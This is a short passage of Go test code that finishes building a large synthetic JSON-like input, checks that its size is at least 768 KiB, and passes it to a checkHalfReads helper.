		b.WriteString("]}")
		if b.Len() < 3*256<<10 {
			t.Fatalf("synthetic input is only %d bytes", b.Len())
		}
		checkHalfReads(t, b.Bytes())
	}
}
